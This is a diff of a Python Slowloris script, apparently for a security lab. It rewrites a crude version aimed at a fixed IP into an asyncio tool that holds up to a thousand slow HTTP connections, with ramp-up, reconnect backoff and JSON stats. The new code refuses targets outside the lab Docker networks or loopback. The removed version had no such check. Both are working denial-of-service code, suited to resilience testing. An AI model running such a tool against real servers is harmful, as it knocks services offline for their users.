@@ -1,63 +1,373 @@
-import socket
+#!/usr/bin/env python3
+"""Slowloris slow-connection workload for the lab targets.
+
+Holds many partial HTTP requests open against a target on the lab's elk_net
+network, a tenant lab network (lab-*) or loopback, trickling one header per
+connection every few seconds so the server keeps waiting for the request to
+finish. See DoS.md.
+"""
+import argparse
+import asyncio
+import ipaddress
+import json
+import os
 import random
+import socket
+import subprocess
+import sys
 import time
-#import sys
-def Main():
+
+try:
+    import resource
+except ImportError:
+    resource = None
+
+LAB_NETWORK = "elk_net"
+# Tenant lab networks created by 'Machines/make.py lab create'
+TENANT_NETWORK_PREFIX = "lab-"
+LOOPBACK_NETWORKS = [ipaddress.ip_network("127.0.0.0/8"), ipaddress.ip_network("::1/128")]
+
+HEADERS = [
+    "User-agent: Mozilla/5.0 (X11; Ubuntu; Linux x86_64; rv:99.0) Gecko/20100101 Firefox/99.0",
+    "Accept-language: en-US,en,q=0.5",
+    "Connection: Keep-Alive",
+]
+
+RECONNECT_POLICIES = ("backoff", "immediate", "none")
+
+
+class Stats:
+    """Counters shared by all connections, reported periodically"""
+
+    def __init__(self):
+        self.started = time.monotonic()
+        self.held = 0
+        self.connecting = 0
+        self.peak_held = 0
+        self.opened = 0
+        self.connect_failed = 0
+        self.dropped = 0
+        self.headers_sent = 0
+        self.bytes_sent = 0
+        self.last_error = None
+
+    def to_dict(self):
+        return {
+            "elapsed": round(time.monotonic() - self.started, 2),
+            "held": self.held,
+            "connecting": self.connecting,
+            "peak_held": self.peak_held,
+            "opened": self.opened,
+            "connect_failed": self.connect_failed,
+            "dropped": self.dropped,
+            "headers_sent": self.headers_sent,
+            "bytes_sent": self.bytes_sent,
+            "last_error": self.last_error,
+        }
+
+    def line(self):
+        return (
+            f"[*] {time.monotonic() - self.started:7.1f}s held={self.held} "
+            f"(peak {self.peak_held}) connecting={self.connecting} "
+            f"opened={self.opened} failed={self.connect_failed} "
+            f"dropped={self.dropped} headers={self.headers_sent}"
+            + (f" last_error={self.last_error}" if self.last_error else "")
+        )
+
+
+def docker_lab_subnets():
+    """Subnets of elk_net and the tenant lab networks, or None without Docker"""
     try:
-        global allthesockets
-        headers = [
-            "User-agent: Mozilla/5.0 (X11; Ubuntu; Linux x86_64; rv:99.0) Gecko/20100101 Firefox/99.0",
-            "Accept-language: en-US,en,q=0.5",
-            "Connection: Keep-Alive"
+        names = subprocess.check_output(
+            ["docker", "network", "ls", "--format", "{{.Name}}"],
+            stderr=subprocess.DEVNULL,
+            text=True,
+        ).split()
+        names = [
+            name
+            for name in names
+            if name == LAB_NETWORK or name.startswith(TENANT_NETWORK_PREFIX)
         ]
-        howmany_sockets = 600
-        ip = "10.0.4.2"
-        port = 80
-        allthesockets = []
-        print("Creating sockets...")
-        for k in range(howmany_sockets):
-            try:
-                s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
-                s.settimeout(4)
-                s.connect((ip, port))
-                allthesockets.append(s)
-            except Exception as e:
-                print(e)
-        print(range(howmany_sockets)," sockets are ready.")
-        num = 0
-        for r in allthesockets:
-            print("[",num,"]")
-            num += 1 
-            r.send("GET /?{} HTTP/1.1\r\n".format(random.randint(0, 2000)).encode("utf-8"))
-            print("Successfully sent [+] GET /? HTTP /1.1 ...")
-            for header in headers:
-                r.send(bytes("{}\r\n".format(header).encode("utf-8")))
-            print("Successfully sent [+] Headers ...")
-
-        while True:
-            for v in allthesockets:
-                try:
-                    v.send("X-a: {}\r\n".format(random.randint(1,5000)).encode("utf-8"))
-                    print("[-][-][*] Waiter sent.")
-                except:
-                    print("[-] A socket failed, reattempting...")
-                    allthesockets.remove(v)
-                    try:
-                        v.socket.socket(socket.AF_INET, socket.SOCK_STREAM)
-                        v.settimeout(4)
-                        v.connect((ip,port))
-                        v.send("GET /?{} HTTP/1.1\r\n".format(random.randint(0,2000)).encode("utf-8"))
-                        for header in headers:
-                            v.send(bytes("{}\r\n".format(header).encode("utf-8")))
-                    except:
-                        pass
-
-            print("\n\n[*] Successfully sent [+] KEEP-ALIVE headers...\n")
-            print("Sleeping off ...")
-            time.sleep(1)
-    except ConnectionRefusedError:
-        print("[-] Connection refused, retrying...")
-        Main()
-    
-
-Main()
+        if not names:
+            return []
+        output = subprocess.check_output(
+            [
+                "docker",
+                "network",
+                "inspect",
+                "-f",
+                "{{range .IPAM.Config}}{{.Subnet}} {{end}}",
+                *names,
+            ],
+            stderr=subprocess.DEVNULL,
+            text=True,
+        )
+        return [ipaddress.ip_network(subnet) for subnet in output.split()]
+    except (OSError, subprocess.CalledProcessError, ValueError):
+        return None
+
+
+def lab_networks(lab_subnets=()):
+    """Networks targets may live on: loopback plus the lab networks.
+
+    On the Docker host the lab networks are inspected directly. Elsewhere
+    (inside a lab container) nothing on the routing table identifies elk_net,
+    and a --network host or default-bridge container is directly connected
+    to the host LAN or docker0. So the lab subnet must be given explicitly,
+    and is only accepted if an interface is attached to it.
+    """
+    networks = list(LOOPBACK_NETWORKS)
+    subnets = docker_lab_subnets()
+    if subnets is not None:
+        return networks + subnets
+    connected = connected_networks()
+    for subnet in lab_subnets:
+        if subnet not in connected:
+            raise SystemExit(
+                f"[!] --lab-subnet {subnet} is not attached to this machine; "
+                f"connected: {', '.join(str(network) for network in connected) or 'none'}"
+            )
+        networks.append(subnet)
+    return networks
+
+
+def connected_networks():
+    """Directly connected IPv4 subnets from the kernel routing table"""
+    networks = []
+    try:
+        with open("/proc/net/route") as f:
+            next(f)
+            for line in f:
+                fields = line.split()
+                destination, gateway, mask = fields[1], fields[2], fields[7]
+                if destination == "00000000" or gateway != "00000000":
+                    continue
+                address = socket.inet_ntoa(bytes.fromhex(destination)[::-1])
+                netmask = socket.inet_ntoa(bytes.fromhex(mask)[::-1])
+                networks.append(ipaddress.ip_network(f"{address}/{netmask}"))
+    except (OSError, ValueError, StopIteration):
+        pass
+    return networks
+
+
+def resolve_target(host, port, lab_subnets=()):
+    """Resolve host and refuse anything outside the lab networks or loopback"""
+    address = ipaddress.ip_address(
+        socket.getaddrinfo(host, port, proto=socket.IPPROTO_TCP)[0][4][0]
+    )
+    allowed = lab_networks(lab_subnets)
+    if not any(address in network for network in allowed):
+        hint = (
+            ""
+            if lab_subnets
+            else "; inside a lab container pass the elk_net subnet with --lab-subnet"
+        )
+        raise SystemExit(
+            f"[!] {host} ({address}) is not on {LAB_NETWORK}, a lab network or "
+            f"loopback; allowed: {', '.join(str(network) for network in allowed)}{hint}"
+        )
+    return str(address)
+
+
+def raise_fd_limit(wanted):
+    """Raise RLIMIT_NOFILE towards wanted; return how many sockets fit"""
+    if resource is None:
+        return wanted
+    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
+    target = wanted + 64
+    if hard != resource.RLIM_INFINITY:
+        target = min(target, hard)
+    if target > soft:
+        try:
+            resource.setrlimit(resource.RLIMIT_NOFILE, (target, hard))
+            soft = target
+        except (ValueError, OSError) as e:
+            print(f"[!] Could not raise open file limit: {e}")
+    return max(1, min(wanted, soft - 64))
+
+
+async def hold_connection(args, address, stats, stop):
+    """Open one slow request and keep it alive until stopped"""
+    delay = 0.5
+    while not stop.is_set():
+        stats.connecting += 1
+        try:
+            reader, writer = await asyncio.wait_for(
+                asyncio.open_connection(address, args.port), args.connect_timeout
+            )
+        except (OSError, asyncio.TimeoutError) as e:
+            stats.last_error = type(e).__name__
+            stats.connect_failed += 1
+            if args.reconnect == "none":
+                return
+            if args.reconnect == "backoff":
+                await asyncio.sleep(delay * random.uniform(0.5, 1.0))
+                delay = min(delay * 2, args.max_backoff)
+            continue
+        finally:
+            stats.connecting -= 1
+
+        stats.opened += 1
+        stats.held += 1
+        stats.peak_held = max(stats.peak_held, stats.held)
+        delay = 0.5
+        try:
+            request = f"GET /?{random.randint(0, 2000)} HTTP/1.1\r\n" + "".join(
+                f"{header}\r\n" for header in HEADERS
+            )
+            writer.write(request.encode())
+            await writer.drain()
+            stats.bytes_sent += len(request)
+            while not stop.is_set():
+                # Spread keep-alive headers so they do not go out in bursts
+                await asyncio.sleep(args.interval * random.uniform(0.8, 1.2))
+                if reader.at_eof():
+                    raise ConnectionResetError("closed by server")
+                header = f"X-a: {random.randint(1, 5000)}\r\n".encode()
+                writer.write(header)
+                await writer.drain()
+                stats.headers_sent += 1
+                stats.bytes_sent += len(header)
+        except (OSError, asyncio.TimeoutError) as e:
+            stats.last_error = str(e) or type(e).__name__
+            stats.dropped += 1
+        finally:
+            stats.held -= 1
+            writer.close()
+        if args.reconnect == "none":
+            return
+
+
+async def report(stats, interval, stop, json_out=None):
+    while not stop.is_set():
+        try:
+            await asyncio.wait_for(stop.wait(), interval)
+        except asyncio.TimeoutError:
+            pass
+        print(stats.line(), flush=True)
+        if json_out is not None:
+            # One JSON object per line for bench_resilience.py and other tools
+            json_out.write(json.dumps({**stats.to_dict(), "final": stop.is_set()}) + "\n")
+            json_out.flush()
+
+
+async def run(args, address, stats, json_out=None):
+    stop = asyncio.Event()
+    reporter = asyncio.create_task(
+        report(stats, args.stats_interval, stop, json_out)
+    )
+    workers = []
+    deadline = time.monotonic() + args.duration if args.duration else None
+    try:
+        # Ramp up at the configured rate instead of opening everything at once
+        for _ in range(args.connections):
+            workers.append(asyncio.create_task(hold_connection(args, address, stats, stop)))
+            await asyncio.sleep(1 / args.ramp)
+            if deadline and time.monotonic() >= deadline:
+                break
+        if deadline:
+            await asyncio.sleep(max(0, deadline - time.monotonic()))
+        else:
+            await asyncio.gather(*workers)
+    finally:
+        stop.set()
+        for worker in workers:
+            worker.cancel()
+        await asyncio.gather(*workers, return_exceptions=True)
+        await reporter
+
+
+def positive(convert):
+    """argparse type: convert the value and require it to be > 0"""
+
+    def parse(value):
+        number = convert(value)
+        if number <= 0:
+            raise argparse.ArgumentTypeError(f"must be greater than 0, got {value}")
+        return number
+
+    parse.__name__ = convert.__name__
+    return parse
+
+
+def parse_args():
+    parser = argparse.ArgumentParser(description="Slowloris workload for lab targets")
+    parser.add_argument("target", help="target host or IP on elk_net (or loopback)")
+    parser.add_argument(
+        "--lab-subnet",
+        type=ipaddress.ip_network,
+        action="append",
+        default=[
+            ipaddress.ip_network(subnet)
+            for subnet in os.getenv("LAB_SUBNET", "").split(",")
+            if subnet.strip()
+        ],
+        help="subnet of elk_net (or a lab-* network) when running inside a "
+        "container; must be attached to this machine (env LAB_SUBNET)",
+    )
+    parser.add_argument("-p", "--port", type=int, default=80)
+    parser.add_argument(
+        "-c", "--connections", type=positive(int), default=1000, help="connections to hold"
+    )
+    parser.add_argument(
+        "--ramp", type=positive(float), default=200, help="new connections per second"
+    )
+    parser.add_argument(
+        "--interval",
+        type=positive(float),
+        default=10,
+        help="seconds between keep-alive headers on each connection",
+    )
+    parser.add_argument(
+        "--reconnect",
+        choices=RECONNECT_POLICIES,
+        default="backoff",
+        help="what to do when a connection fails or is dropped",
+    )
+    parser.add_argument(
+        "--max-backoff", type=positive(float), default=30, help="upper bound for backoff"
+    )
+    parser.add_argument("--connect-timeout", type=positive(float), default=4)
+    parser.add_argument(
+        "--stats-interval", type=positive(float), default=5, help="seconds between stats lines"
+    )
+    parser.add_argument(
+        "--duration", type=float, default=0, help="stop after N seconds (0 = Ctrl-C)"
+    )
+    parser.add_argument(
+        "--stats-json",
+        metavar="PATH",
+        help="also write each stats report as a JSON line to PATH ('-' for stdout)",
+    )
+    return parser.parse_args()
+
+
+def main():
+    args = parse_args()
+    address = resolve_target(args.target, args.port, args.lab_subnet)
+    connections = raise_fd_limit(args.connections)
+    if connections < args.connections:
+        print(f"[!] Open file limit allows {connections} connections, not {args.connections}")
+        args.connections = connections
+
+    print(
+        f"[*] Holding up to {args.connections} connections to {address}:{args.port} "
+        f"(ramp {args.ramp:g}/s, header every {args.interval:g}s, reconnect {args.reconnect})"
+    )
+    stats = Stats()
+    json_out = None
+    if args.stats_json == "-":
+        json_out = sys.stdout
+    elif args.stats_json:
+        json_out = open(args.stats_json, "a", encoding="utf-8")
+    try:
+        asyncio.run(run(args, address, stats, json_out))
+    except KeyboardInterrupt:
+        pass
+    finally:
+        if json_out not in (None, sys.stdout):
+            json_out.close()
+
+
+if __name__ == "__main__":
+    main()